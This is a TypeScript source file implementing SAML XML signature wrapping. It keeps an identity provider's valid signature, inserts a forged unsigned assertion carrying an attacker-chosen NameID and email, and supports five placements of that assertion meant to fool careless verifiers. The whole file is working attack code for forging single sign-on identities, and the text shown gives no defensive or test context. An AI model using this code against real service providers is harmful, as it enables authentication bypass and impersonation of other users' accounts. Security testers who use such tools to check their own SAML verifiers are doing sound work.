import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export type WrappingVariant =
  | 'evil assertion before the signed one'
  | 'evil assertion after the signed one'
  | 'signed assertion wrapped inside the evil one'
  | 'evil assertion takes the signed id, original hidden in ds:Object'
  | 'evil response wraps the signed response';

type El = ReturnType<DOMParser['parseFromString']>['documentElement'] & object;

function child(parent: El, ns: string, name: string): El | null {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    const e = n as unknown as El;
    if (n.nodeType === 1 && e.localName === name && e.namespaceURI === ns) return e;
  }
  return null;
}

/**
 * XML signature wrapping: keeps the IdP's valid signature over the original assertion (or response)
 * and adds an unsigned copy naming `evilNameID` / `evilEmail`, placed where a careless verifier reads it.
 */
export function wrapSignature(
  xml: string,
  variant: WrappingVariant,
  evilNameID: string,
  evilEmail: string,
): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement as El;
  const signed = child(response, SAML, 'Assertion')!;
  const evil = signed.cloneNode(true) as El;
  const evilSignature = child(evil, DSIG, 'Signature');
  if (evilSignature) evil.removeChild(evilSignature);
  evil.setAttribute('ID', '_evil0000000000000000000000000000');
  const nameId = child(child(evil, SAML, 'Subject')!, SAML, 'NameID')!;
  nameId.textContent = evilNameID;
  for (const value of Array.from(evil.getElementsByTagNameNS(SAML, 'AttributeValue'))) {
    if (value.textContent?.includes('@')) value.textContent = evilEmail;
  }

  switch (variant) {
    case 'evil assertion before the signed one':
      response.insertBefore(evil, signed);
      break;
    case 'evil assertion after the signed one':
      response.appendChild(evil);
      break;
    case 'signed assertion wrapped inside the evil one':
      response.replaceChild(evil, signed);
      evil.appendChild(signed);
      break;
    case 'evil assertion takes the signed id, original hidden in ds:Object': {
      const signature = child(signed, DSIG, 'Signature')!;
      signed.removeChild(signature);
      evil.setAttribute('ID', signed.getAttribute('ID')!);
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(signed);
      signature.appendChild(object);
      evil.insertBefore(signature, child(evil, SAML, 'Subject'));
      response.appendChild(evil);
      break;
    }
    case 'evil response wraps the signed response': {
      // A new root with the evil assertion; the original signed response rides inside its Signature.
      const root = response.cloneNode(false) as El;
      root.setAttribute('ID', '_evilresponse000000000000000000000');
      const signature = child(response, DSIG, 'Signature')!;
      const issuer = child(response, SAML, 'Issuer')!.cloneNode(true);
      const status = child(response, 'urn:oasis:names:tc:SAML:2.0:protocol', 'Status')!.cloneNode(true);
      const movedSignature = signature.cloneNode(true) as El;
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(response.cloneNode(true));
      movedSignature.appendChild(object);
      root.appendChild(issuer);
      root.appendChild(movedSignature);
      root.appendChild(status);
      root.appendChild(evil);
      doc.replaceChild(root, response);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}
